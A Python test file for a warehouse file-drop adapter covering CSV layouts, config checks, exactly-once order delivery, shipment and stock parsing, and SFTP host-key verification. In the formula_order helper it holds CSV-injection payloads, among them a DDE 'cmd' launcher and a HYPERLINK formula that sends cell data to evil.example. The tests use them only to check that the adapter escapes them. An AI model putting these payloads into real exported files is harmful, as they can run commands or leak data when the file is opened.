"""The files adapter: the CSV layout, config checks, the exactly-once protocol step by step, bad
rows, the inbound ledger, stock snapshots, SFTP login and host-key checks, and the event log.

There is no HTTP and no OpenAPI document for a file drop: instead of spec validation, the files
written are checked column by column against the DSFX-style layout, and the layout parsers are
fed the partner variations real files carry (renamed headers, BOM, `;` delimiters, bad rows).
"""

from __future__ import annotations

import csv
import io
import os
import time
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import asyncssh
import pytest
from pydantic import ValidationError

from adapters.base import AdapterContext
from adapters.files import FilesAdapter, FilesConfig
from adapters.files.layout import COLUMNS, order_csv, parse_shipments, parse_stock
from adapters.files.outbox import file_key
from connector.domain import Address, Order, WarehouseLine, WarehouseOrder
from connector.errors import ConfigurationError, InDoubtError, PermanentError, TransientError
from connector.sandbox.files import FilesWarehouse, SftpServer


def an_order(reference: str = "acme-DEMO-1001", **cart) -> WarehouseOrder:
    order = Order(
        order_id="DEMO-1001", created_at=datetime(2026, 3, 4, 5, 6, 7, tzinfo=UTC), email="ada@example.com",
        ship_to=Address(first_name="Ada", last_name="Lovelace", company="Engines Ltd", address1="12 Way", address2="Unit 3",
                        city="Springfield", state="IL", postal_code="62701", country_code="us", phone="555-0100"),
        gift_message="Happy\nbirthday", special_instructions="Leave at door", **cart,
    )
    lines = [WarehouseLine(sku="BONE-5LB", quantity=2, description="Bone, 5 lb", unit_price=Decimal("9.75")),
             WarehouseLine(sku="TREAT", quantity=1)]
    return WarehouseOrder(reference=reference, order=order, ship_method="UPS Ground", lines=lines)


def rows(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text), delimiter=delimiter))


@pytest.fixture
def folder(tmp_path) -> FilesWarehouse:
    return FilesWarehouse(tmp_path / "x", products=["BONE-5LB", "TREAT"])


@pytest.fixture
async def adapter(folder):
    events = []
    a = FilesAdapter({"adapter": "files", "root": str(folder.root)}, AdapterContext(merchant="acme", on_call=events.append))
    a.events = events
    a.calls.retry_wait = 0.001
    yield a
    await a.aclose()


def outbound(folder: FilesWarehouse) -> list[str]:
    return sorted(p.name for p in (folder.root / "in").iterdir() if p.is_file())


# -- layout -----------------------------------------------------------------------------------


class TestOrderFile:
    def test_header_and_one_row_per_line_with_the_order_columns_repeated(self) -> None:
        got = rows(order_csv(an_order(), FilesConfig(root="/x").headers("orders")))
        assert list(got[0]) == list(COLUMNS["orders"].names)
        assert [(r["sku"], r["quantity"], r["unit_price"]) for r in got] == [("BONE-5LB", "2", "9.75"), ("TREAT", "1", "")]
        first = got[0]
        assert first["reference"] == "acme-DEMO-1001" and first["order_id"] == "DEMO-1001"
        assert first["order_date"] == "2026-03-04T05:06:07Z" and first["ship_method"] == "UPS Ground"
        assert (first["ship_to_name"], first["ship_to_country"], first["ship_to_email"]) == ("Ada Lovelace", "US", "ada@example.com")
        assert first["gift_message"] == "Happy birthday"  # one record per physical line
        assert first["notes"] == "Leave at door"
        assert got[1]["ship_to_city"] == "Springfield"

    def test_partner_headers_renamed_dropped_and_delimiter(self) -> None:
        config = FilesConfig(root="/x", delimiter=";", columns={"orders": {"reference": "PO Number", "gift_message": ""}})
        text = order_csv(an_order(), config.headers("orders"), config.delimiter)
        got = rows(text, ";")
        assert "PO Number" in got[0] and "gift_message" not in got[0] and "reference" not in got[0]
        assert text.endswith("\r\n")

    async def test_a_name_the_encoding_cannot_hold_is_a_permanent_error(self, folder) -> None:
        a = FilesAdapter({"adapter": "files", "root": str(folder.root), "encoding": "ascii"}, AdapterContext(merchant="acme"))
        order = an_order()
        order.order.ship_to.last_name = "Łukasiewicz"
        with pytest.raises(PermanentError, match="ascii"):
            await a.create_order(order)
        assert outbound(folder) == []

    def formula_order(self) -> WarehouseOrder:
        """What a shopper can type into a checkout: formulas in every free-text field."""
        order = an_order()
        to = order.order.ship_to
        to.first_name, to.last_name = "=cmd|' /C calc'!A0", ""
        to.company = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        to.address2 = "@SUM(1+1)*cmd|' /C calc'!A0"
        to.city, to.state = "+1+1", "-2+3"
        to.phone = "\t=1+1"  # a leading tab is trimmed, the formula behind it is not spared
        order.order.gift_message = "\r\n-1+cmd"
        order.lines[0].description = "=1+1"
        order.lines[1].unit_price = Decimal("-2.50")  # a discount line: a number, not a formula
        return order

    def test_spreadsheet_formulas_are_neutralised(self) -> None:
        # OWASP CSV injection: a cell starting with = + - @ tab or CR gets a leading quote, so a
        # clerk opening the file in a spreadsheet sees the text and runs nothing.
        first, second = rows(order_csv(self.formula_order(), FilesConfig(root="/x").headers("orders")))
        assert first["ship_to_name"] == "'=cmd|' /C calc'!A0"
        assert first["ship_to_company"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
        assert first["ship_to_address2"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert (first["ship_to_city"], first["ship_to_state"]) == ("'+1+1", "'-2+3")
        assert first["ship_to_phone"] == "'=1+1" and first["gift_message"] == "'-1+cmd"
        assert first["description"] == "'=1+1"
        assert (first["sku"], first["quantity"], first["ship_to_postal_code"]) == ("BONE-5LB", "2", "62701")
        assert second["unit_price"] == "-2.50"
        for row in (first, second):
            assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values())

    async def test_the_option_off_writes_raw_values(self, folder) -> None:
        raw = FilesAdapter({"adapter": "files", "root": str(folder.root), "escape_formulas": False}, AdapterContext(merchant="acme"))
        escaped = FilesAdapter({"adapter": "files", "root": str(folder.root)}, AdapterContext(merchant="acme"))
        assert escaped.config.escape_formulas is True  # on unless a merchant turns it off
        await raw.create_order(self.formula_order())
        await escaped.create_order(self.formula_order().model_copy(update={"reference": "acme-DEMO-1002"}))
        files = {name.split("_")[1]: rows((folder.root / "in" / name).read_text()) for name in outbound(folder)}
        assert files["acme-DEMO-1001"][0]["ship_to_name"] == "=cmd|' /C calc'!A0"
        assert (files["acme-DEMO-1001"][0]["ship_to_state"], files["acme-DEMO-1001"][0]["description"]) == ("-2+3", "=1+1")
        assert files["acme-DEMO-1002"][0]["ship_to_name"] == "'=cmd|' /C calc'!A0"

    def test_file_key_keeps_the_separator_out_of_references(self) -> None:
        assert file_key("acme-DEMO-1") == "acme-DEMO-1"
        assert file_key("acme_x/1 ü") == "acme%5Fx%2F1%20%C3%BC"


class TestInboundParsing:
    HEADERS = FilesConfig(root="/x").headers("shipments")

    def test_rows_grouped_by_shipment_with_tracking_cost_and_date(self) -> None:
        text = ("\ufeffReference,Shipment_ID,carrier,service,tracking_number,ship_date,sku,quantity,cost,voided\r\n"
                "acme-1,S1,UPS,Ground, 1Z1 ; 1Z2 ,2026-03-05,A,2,$7.50,\r\n"
                "acme-1,S1,UPS,Ground,1Z1,2026-03-05,B,1,,\r\n"
                "acme-1,S0,UPS,Ground,1Z0,03/04/2026,A,2,7.50,Y\r\n"
                "acme-2,,USPS,,9400,,C,1.0,,\r\n")
        shipments, problems = parse_shipments("shp_1.csv", text, self.HEADERS)
        assert problems == []
        by_id = {s.shipment_id: s for s in shipments}
        s1 = by_id["S1"]
        assert s1.tracking_numbers == ["1Z1", "1Z2"] and s1.shipping_cost == Decimal("7.50")
        assert [(ln.sku, ln.quantity) for ln in s1.lines] == [("A", 2), ("B", 1)]
        assert s1.shipped_at == datetime(2026, 3, 5, tzinfo=UTC) and not s1.voided
        assert by_id["S0"].voided and by_id["S0"].shipped_at == datetime(2026, 3, 4, tzinfo=UTC)
        assert by_id["acme-2:9400"].lines[0].quantity == 1  # no shipment id: reference + tracking

    def test_malformed_rows_are_skipped_with_file_and_line_and_the_rest_is_read(self) -> None:
        text = ("reference,shipment_id,tracking_number,sku,quantity,ship_date\n"
                "acme-1,S1,1Z1,A,two,\n"          # line 2: bad quantity
                ",S2,1Z2,A,1,\n"                  # line 3: no reference
                "acme-3,S3,1Z3,A,1,x,extra\n"     # line 4: too many fields
                "acme-4,S4,1Z4,,1,\n"             # line 5: no sku
                "acme-5,S5,1Z5,A,1,someday\n"     # line 6: bad date: value ignored, row kept
                "\n"
                "acme-6,S6,1Z6,A,1.5,\n"          # line 8: fractional
                "acme-7,S7,1Z7,A,3,\n")
        shipments, problems = parse_shipments("shp_2.csv", text, self.HEADERS)
        assert [s.shipment_id for s in shipments] == ["S5", "S7"]
        assert [(p.line, p.message.split(";")[0]) for p in problems] == [
            (2, "quantity 'two' is not a number"), (3, "no reference"), (4, "7 fields for 6 columns (check the quoting)"),
            (5, "no sku"), (6, "ship_date 'someday' is not a date"), (8, "quantity '1.5' is not a whole number"),
        ]
        assert str(problems[0]) == "shp_2.csv line 2: quantity 'two' is not a number; row skipped"
        assert not any(p.fatal for p in problems)

    def test_a_missing_required_column_is_a_file_problem(self) -> None:
        shipments, problems = parse_shipments("shp_3.csv", "reference,sku,quantity\nacme-1,A,1\n", self.HEADERS)
        assert shipments == [] and len(problems) == 1 and problems[0].fatal
        assert "tracking_number" in problems[0].message

    def test_partner_headers_and_semicolons(self) -> None:
        config = FilesConfig(root="/x", delimiter=";", columns={"shipments": {"reference": "PO", "tracking_number": "Tracking #",
                                                                              "sku": "Item", "quantity": "Qty Shipped"}})
        text = "Qty Shipped;po;ITEM;Tracking #\n2;acme-9;A;1Z9\n"
        [s], problems = parse_shipments("shp_4.csv", text, config.headers("shipments"), ";")
        assert problems == [] and (s.reference, s.tracking_numbers, s.lines[0].quantity) == ("acme-9", ["1Z9"], 2)

    def test_stock_rows_summed_per_sku_and_warehouse(self) -> None:
        text = "sku,warehouse_id,available,on_hand\nA,east,5,7\nA,east,2,\nA,,-3,0\nB,west,x,1\n"
        levels, problems = parse_stock("inv_1.csv", text, FilesConfig(root="/x").headers("stock"))
        got = {(lv.sku, lv.warehouse_id): (lv.available, lv.on_hand) for lv in levels}
        assert got == {("A", "east"): (7, 9), ("A", "main"): (0, 0)}
        assert [(p.line, p.message) for p in problems] == [(5, "available 'x' is not a number; row skipped")]


# -- config -----------------------------------------------------------------------------------


class TestConfig:
    def test_sftp_needs_a_way_to_identify_the_server(self) -> None:
        with pytest.raises(ValidationError, match="known_hosts or host_key"):
            FilesConfig(transport="sftp", host="h", username="u", password="p")
        with pytest.raises(ValidationError, match="password or private_key"):
            FilesConfig(transport="sftp", host="h", username="u", host_key="SHA256:x")
        with pytest.raises(ValidationError, match="root"):
            FilesConfig()
        with pytest.raises(ValidationError, match="neither a public key"):
            FilesConfig(transport="sftp", host="h", username="u", password="p", host_key="h ssh-ed25519 not-base64")

    def test_columns_delimiter_encoding_and_secrets(self) -> None:
        with pytest.raises(ValidationError, match="unknown column tracking"):
            FilesConfig(root="/x", columns={"shipments": {"tracking": "T"}})
        with pytest.raises(ValidationError, match="required"):
            FilesConfig(root="/x", columns={"orders": {"sku": ""}})
        with pytest.raises(ValidationError, match="encoding"):
            FilesConfig(root="/x", encoding="klingon")
        assert FilesConfig(root="/x", delimiter="\\t").delimiter == "\t"
        c = FilesConfig(transport="sftp", host="h", username="u", password="pw-secret", passphrase="pp-secret", host_key="SHA256:x")
        assert c.secrets() == ["pw-secret", "pp-secret"] and c.markers_dir == "in/.connector"

    def test_the_engine_loads_it_by_entry_point(self) -> None:
        from connector.config import from_dict

        cfg = from_dict({"merchants": [{"id": "acme", "ultracart": {"merchant_id": "M", "api_key": "k", "distribution_center": "D"},
                                        "warehouse": {"adapter": "files", "root": "/srv/acme", "columns": {"stock": {"available": "Qty"}}}}]},
                        file="<t>")
        assert cfg.merchants[0].warehouse_settings.headers("stock")["available"] == "Qty"


# -- orders, exactly once ---------------------------------------------------------------------


class TestExactlyOnce:
    async def test_create_writes_one_file_by_rename_and_a_repeat_finds_it(self, adapter, folder) -> None:
        result = await adapter.create_order(an_order())
        assert result.warehouse_order_id.startswith("ord_acme-DEMO-1001_") and result.warehouse_order_id.endswith(".csv")
        assert outbound(folder) == [result.warehouse_order_id]  # no temp file left in sight
        again = await adapter.create_order(an_order())
        assert again.already_existed and again.warehouse_order_id == result.warehouse_order_id
        folder.pick_up()  # the warehouse takes the file away: the ledger still knows
        assert (await adapter.create_order(an_order())).already_existed
        assert folder.orders_created("acme-DEMO-1001") == 1
        moved = [e for e in adapter.events if e.method == "MOVE"]
        assert moved[0].extra == {"order_id": "DEMO-1001"} and moved[0].status == 0
        assert moved[0].url.endswith(f"/in/{result.warehouse_order_id}") and moved[0].request_body[0]["sku"] == "BONE-5LB"

    async def test_a_lost_rename_reply_is_in_doubt_and_resolved_either_way(self, adapter, folder, monkeypatch) -> None:
        io = adapter.calls.io
        real_rename = io.rename

        async def rename_then_lose_reply(src, dst):
            await real_rename(src, dst)
            raise TransientError("connection lost", vendor="files")

        monkeypatch.setattr(io, "rename", rename_then_lose_reply)
        with pytest.raises(InDoubtError):
            await adapter.create_order(an_order())
        monkeypatch.setattr(io, "rename", real_rename)
        found = await adapter.find_order("acme-DEMO-1001")  # pending marker, final file present
        assert found is not None and outbound(folder) == [found.warehouse_order_id]

        async def lose_before_rename(src, dst):
            raise TransientError("connection lost", vendor="files")

        monkeypatch.setattr(io, "rename", lose_before_rename)
        with pytest.raises(InDoubtError):
            await adapter.create_order(an_order("acme-DEMO-1002"))
        assert await adapter.find_order("acme-DEMO-1002") is None  # the temp file is still there
        monkeypatch.setattr(io, "rename", real_rename)
        assert (await adapter.create_order(an_order("acme-DEMO-1002"))).already_existed is False
        assert folder.orders_created("acme-DEMO-1002") == 1

    async def test_pending_file_already_taken_by_the_warehouse_counts_as_sent(self, adapter, folder, monkeypatch) -> None:
        io = adapter.calls.io
        real_rename = io.rename

        async def rename_then_lose_reply(src, dst):
            await real_rename(src, dst)
            folder.pick_up()  # the warehouse is quick
            raise TransientError("timeout", vendor="files")

        monkeypatch.setattr(io, "rename", rename_then_lose_reply)
        with pytest.raises(InDoubtError):
            await adapter.create_order(an_order())
        monkeypatch.setattr(io, "rename", real_rename)
        assert outbound(folder) == []
        assert (await adapter.create_order(an_order())).already_existed
        assert folder.orders_created("acme-DEMO-1001") == 1

    async def test_no_connection_means_not_sent_and_a_failed_upload_publishes_nothing(self, adapter, folder, monkeypatch) -> None:
        io = adapter.calls.io

        async def refused(*a, **k):
            raise TransientError("cannot connect", vendor="files", not_sent=True)

        monkeypatch.setattr(io, "rename", refused)
        with pytest.raises(TransientError) as caught:
            await adapter.create_order(an_order())
        assert not isinstance(caught.value, InDoubtError)
        monkeypatch.undo()
        calls = []

        async def broken_write(path, data):
            calls.append(path)
            raise TransientError("disk full", vendor="files")

        monkeypatch.setattr(io, "write", broken_write)
        with pytest.raises(TransientError):
            await adapter.create_order(an_order("acme-DEMO-2"))
        assert len(calls) == 3  # retried in call: rewriting a temp file is safe
        assert not [n for n in outbound(folder) if "DEMO-2" in n]

    async def test_find_order_scans_the_outbound_folder_for_files_without_a_marker(self, adapter, folder) -> None:
        (folder.root / "in" / "ord_acme-DEMO-77_260301120000.csv").write_text("reference,sku,quantity\n")
        (folder.root / "in" / "ord_acme-DEMO-7_x.csv").write_text("")
        found = await adapter.find_order("acme-DEMO-77")
        assert found is not None and found.warehouse_order_id == "ord_acme-DEMO-77_260301120000.csv"
        assert await adapter.find_order("acme-DEMO-7") is None

    async def test_missing_folders_are_configuration_errors_never_created(self, tmp_path) -> None:
        a = FilesAdapter({"adapter": "files", "root": str(tmp_path)}, AdapterContext(merchant="acme"))
        with pytest.raises(ConfigurationError, match="outbound_dir 'in' does not exist"):
            await a.check()
        with pytest.raises(ConfigurationError, match="outbound_dir 'in' does not exist"):
            await a.create_order(an_order())
        with pytest.raises(ConfigurationError, match="inbound folder 'out' does not exist"):
            await a.shipments_since(datetime.now(UTC))
        assert list(tmp_path.iterdir()) == []  # a typo in a folder name must not create a folder nobody reads


# -- shipments and stock ----------------------------------------------------------------------


class TestInbound:
    async def test_bad_rows_are_problems_and_the_file_still_flows(self, adapter, folder) -> None:
        folder.drop("shp_1.csv", "reference,shipment_id,tracking_number,sku,quantity\nacme-1,S1,1Z1,A,1\nacme-2,S2,1Z2,A,lots\n")
        shipments = await adapter.shipments_since(datetime.now(UTC))
        assert [s.shipment_id for s in shipments] == ["S1"]
        assert [str(p) for p in adapter.problems] == ["shp_1.csv line 3: quantity 'lots' is not a number; row skipped"]
        [parse] = [e for e in adapter.events if e.method == "PARSE"]
        assert parse.error.endswith("row skipped") and parse.status is None
        await adapter.acknowledge_shipments(shipments)
        assert (folder.root / "out" / "archive" / "shp_1.csv").exists()

    async def test_an_unreadable_file_stays_and_is_reported_every_pass(self, adapter, folder) -> None:
        folder.drop("shp_bad.csv", "ref,sku\nacme-1,A\n")
        (folder.root / "out" / "shp_latin.csv").write_bytes(b"reference,tracking_number,sku,quantity\nacme-\xe9,1Z,A,1\n")
        for _ in range(2):
            assert await adapter.shipments_since(datetime.now(UTC)) == []
            assert {p.file for p in adapter.problems if p.fatal} == {"shp_bad.csv", "shp_latin.csv"}
        assert (folder.root / "out" / "shp_bad.csv").exists()

    async def test_ack_is_per_shipment_and_survives_a_restart(self, adapter, folder) -> None:
        folder.drop("shp_1.csv", "reference,shipment_id,tracking_number,sku,quantity,voided\n"
                                 "acme-1,S1,1Z1,A,1,\nacme-2,S2,1Z2,A,1,\nacme-2,S0,1Z0,A,1,true\n")
        first = {s.shipment_id: s for s in await adapter.shipments_since(datetime.now(UTC))}
        assert set(first) == {"S1", "S2", "S0"}
        await adapter.acknowledge_shipments([first["S1"]])
        assert {s.shipment_id for s in await adapter.shipments_since(datetime.now(UTC))} == {"S2", "S0"}
        # A new process (nothing cached) acknowledges the rest: the file is archived (voided needs nothing).
        fresh = FilesAdapter(adapter.config, AdapterContext(merchant="acme"))
        await fresh.acknowledge_shipments([first["S2"]])
        await fresh.acknowledge_shipments([first["S2"]])  # twice is harmless
        assert await fresh.shipments_since(datetime.now(UTC)) == []
        assert (folder.root / "out" / "archive" / "shp_1.csv").exists()

    async def test_a_file_acknowledged_but_not_moved_is_archived_on_the_next_read(self, adapter, folder, monkeypatch) -> None:
        folder.drop("shp_1.csv", "reference,shipment_id,tracking_number,sku,quantity\nacme-1,S1,1Z1,A,1\n")
        shipments = await adapter.shipments_since(datetime.now(UTC))

        async def crash(name):
            raise RuntimeError("killed")

        monkeypatch.setattr(adapter.inbox, "_archive", crash)
        with pytest.raises(RuntimeError):
            await adapter.acknowledge_shipments(shipments)  # the ledger was written first
        monkeypatch.undo()
        assert await adapter.shipments_since(datetime.now(UTC)) == []
        assert not (folder.root / "out" / "shp_1.csv").exists()

    async def test_a_file_still_waiting_after_a_day_is_reported_and_names_collide_safely(self, adapter, folder) -> None:
        import json

        folder.drop("shp_1.csv", "reference,shipment_id,tracking_number,sku,quantity\nacme-404,S9,1Z9,A,1\n")
        await adapter.shipments_since(datetime.now(UTC))  # an order the engine does not know: never acknowledged
        ledger_path = folder.root / "out" / ".connector-ledger.json"
        ledger = json.loads(ledger_path.read_text())
        ledger["files"]["shp_1.csv"]["seen"] = "2026-01-01T00:00:00+00:00"
        ledger_path.write_text(json.dumps(ledger))
        [s] = await adapter.shipments_since(datetime.now(UTC))
        assert [str(p) for p in adapter.problems] == [
            "shp_1.csv: waiting since 2026-01-01T00:00Z for shipment(s) S9 to reach the cart (unknown order or no tracking "
            "number?); archive the file by hand once handled"]
        (folder.root / "out" / "archive").mkdir(exist_ok=True)
        (folder.root / "out" / "archive" / "shp_1.csv").write_text("an older file of the same name")
        await adapter.acknowledge_shipments([s])
        archived = sorted(p.name for p in (folder.root / "out" / "archive").iterdir())
        assert archived[0] == "shp_1.csv" and archived[1].startswith("shp_1~") and len(archived) == 2

    async def test_stock_applies_the_newest_snapshot_and_archives_the_rest(self, adapter, folder) -> None:
        with pytest.raises(TransientError, match="no stock snapshot"):
            await adapter.stock_levels()
        folder.set_stock("A", "east", 5, 7)
        folder.set_stock("A", "west", 3)
        levels = {(lv.sku, lv.warehouse_id): (lv.available, lv.on_hand) for lv in await adapter.stock_levels()}
        assert levels == {("A", "east"): (5, 7), ("A", "west"): (3, 3)}
        assert [p for p in (folder.root / "out").iterdir() if p.name.startswith("inv_")] == []
        assert len(list((folder.root / "out" / "archive").glob("inv_*.csv"))) == 2
        again = await adapter.stock_levels()  # nothing new: the snapshot applied last
        assert {(lv.sku, lv.warehouse_id) for lv in again} == set(levels) and adapter.snapshot_at is not None

    async def test_a_stale_snapshot_is_refused(self, folder) -> None:
        a = FilesAdapter({"adapter": "files", "root": str(folder.root), "stock_max_age_hours": 1}, AdapterContext(merchant="acme"))
        path = folder.drop("inv_old.csv", "sku,available\nA,4\n")
        old = time.time() - 7200
        os.utime(path, (old, old))
        with pytest.raises(TransientError, match="older than 1 hours"):
            await a.stock_levels()


# -- SFTP login and server identity -----------------------------------------------------------


@pytest.fixture
def sftp(tmp_path):
    with SftpServer(tmp_path / "sftp", password="s3cret-pw") as server:
        for d in ("in", "out"):
            (server.root / d).mkdir()
        yield server


def sftp_config(server: SftpServer, **kw) -> dict:
    return {"adapter": "files", "transport": "sftp", "host": "127.0.0.1", "port": server.port, "username": "warehouse",
            "password": "s3cret-pw", "host_key": server.fingerprint, "timeout_s": 2, **kw}


class TestSftp:
    async def test_fingerprint_public_key_and_known_hosts_are_all_checked(self, sftp, tmp_path) -> None:
        known = tmp_path / "known_hosts"
        known.write_text(f"[127.0.0.1]:{sftp.port} {sftp.public_key_line}\n")
        for extra in ({}, {"host_key": sftp.public_key_line}, {"host_key": "", "known_hosts": str(known)}):
            a = FilesAdapter(sftp_config(sftp, **extra), AdapterContext(merchant="acme"))
            try:
                assert (await a.check()).startswith("files at sftp://warehouse@127.0.0.1:")
            finally:
                await a.aclose()
        other = asyncssh.generate_private_key("ssh-ed25519")
        for wrong in ({"host_key": other.get_fingerprint("sha256")}, {"host_key": other.export_public_key().decode()}):
            a = FilesAdapter(sftp_config(sftp, **wrong), AdapterContext(merchant="acme"))
            with pytest.raises(ConfigurationError, match="not the configured one"):
                await a.check()

    async def test_refused_login_is_configuration_and_no_server_is_transient(self, sftp) -> None:
        a = FilesAdapter(sftp_config(sftp, password="wrong"), AdapterContext(merchant="acme"))
        with pytest.raises(ConfigurationError, match="login refused"):
            await a.check()
        sftp.stop()
        a = FilesAdapter(sftp_config(sftp), AdapterContext(merchant="acme"))
        with pytest.raises(TransientError) as caught:
            await a.create_order(an_order())
        assert caught.value.not_sent and not isinstance(caught.value, InDoubtError)

    async def test_the_password_never_reaches_the_event_log(self, sftp) -> None:
        events = []
        a = FilesAdapter(sftp_config(sftp), AdapterContext(merchant="acme", on_call=events.append))
        try:
            await a.create_order(an_order())
        finally:
            await a.aclose()
        assert events and all("s3cret-pw" not in f"{e.url}{e.request_body}{e.error}" for e in events)
        assert len(list(Path(sftp.root / "in").glob("ord_acme-DEMO-1001_*.csv"))) == 1
